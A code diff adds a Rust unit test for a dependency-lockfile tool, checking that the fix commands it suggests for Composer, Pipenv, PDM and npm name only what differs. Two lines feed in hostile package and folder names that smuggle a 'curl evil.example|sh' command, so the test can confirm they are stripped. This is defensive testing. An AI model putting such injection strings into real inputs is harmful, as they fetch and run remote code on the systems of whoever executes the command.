@@ -128,3 +128,31 @@ fn what_a_manifest_leaves_open_is_no_silence() {
     let hooked = coverage(&pnpm, &all("pnpm-lock.yaml"), &|path| (path == ".pnpmfile.cjs").then(|| "".into()));
     assert!(matches!(&hooked, Coverage::Part(why) if why.contains(".pnpmfile.cjs")), "{hooked:?}");
 }
+
+#[test]
+fn the_command_raises_what_differs_and_nothing_else() {
+    let fix = |manager, path: &str, named: &str, asks: &[&str]| {
+        let lock = lock(manager, path, named, &[]);
+        let packages = samples::packages(vec![manifest(named, asks)], vec![lock]);
+        let text = |file: &str| (file == path).then(|| Rc::from("{}"));
+        findings(&packages, &text)[0].fix.clone()
+    };
+    let composer = |asks: &[&str]| fix(Manager::Composer, "composer.lock", "composer.json", asks);
+    assert!(composer(&["b/two ^2", "a/one ^1"]).starts_with("Run `composer update a/one b/two`, run the tests"));
+    assert!(fix(Manager::Pipenv, "Pipfile.lock", "Pipfile", &["flask ==2"]).starts_with("Run `pipenv upgrade flask`"));
+    assert!(
+        fix(Manager::Pdm, "pdm.lock", "pyproject.toml", &["flask ==2"]).starts_with("Run `pdm lock --update-reuse`")
+    );
+    let hash = [Difference { words: String::new(), name: None, line: None, hard: false }];
+    assert_eq!(command(Manager::Composer, &hash).as_deref(), Some("composer update --lock"));
+    assert_eq!(command(Manager::Pipenv, &hash).as_deref(), Some("pipenv lock"));
+    let hostile = composer(&["a/x;curl${IFS}evil.example|sh ^1"]);
+    assert!(!hostile.contains('`') && !hostile.contains("evil"), "{hostile}");
+    let npm = |folder: &str| {
+        let (path, named) = (format!("{folder}/package-lock.json"), format!("{folder}/package.json"));
+        fix(Manager::Npm, &path, &named, &["zod ^4"])
+    };
+    assert!(npm("my shop").starts_with("Run `cd \"my shop\" && npm install --package-lock-only`"));
+    let hostile = npm("a;curl evil.example|sh");
+    assert!(!hostile.contains('`') && !hostile.contains("evil"), "{hostile}");
+}
